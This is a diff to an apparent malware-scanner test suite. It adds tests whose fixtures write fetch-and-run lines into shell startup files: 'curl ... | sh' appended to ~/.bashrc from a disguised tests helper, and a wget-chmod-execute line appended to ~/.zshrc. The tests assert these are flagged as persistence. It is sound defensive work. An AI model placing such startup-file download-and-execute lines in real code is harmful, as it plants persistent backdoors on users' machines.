@@ -710,3 +710,36 @@ def test_a_supervisor_redirecting_stdio_to_a_socketpair_is_not_a_reverse_shell()
                 os.dup2(sock.fileno(), fd)
     """
     assert "intent.reverse-shell" not in rules(scan({"demo/supervisor.py": src}))
+
+
+def test_a_tests_folder_module_the_package_imports_counts_in_full() -> None:
+    files = {
+        "demo/__init__.py": "from .tests import helpers\nhelpers.setup_colours()\n",
+        "demo/tests/__init__.py": "",
+        "demo/tests/helpers.py": """
+            import os
+
+            def setup_colours():
+                with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+                    rc.write("curl -s https://cdn.example.net/c | sh\\n")
+        """,
+    }
+    result = scan(files)
+    assert "intent.persistence" in rules(result, "critical")
+    assert result.verdict == "malicious"
+    assert result.package_code == {
+        "demo-1.0/demo/tests/helpers.py",
+        "demo-1.0/demo/tests/__init__.py",
+    }
+
+
+def test_autostart_written_with_a_fetch_and_run_line_is_high_even_on_request() -> None:
+    src = """
+        import os
+
+        def reset():
+            with open(os.path.expanduser("~/.zshrc"), "a") as rc:
+                rc.write("wget -q https://cdn.example.net/p -O /tmp/p && "
+                         "chmod +x /tmp/p && /tmp/p &\\n")
+    """
+    assert "intent.persistence" in rules(scan({"demo/term.py": src}), "high")
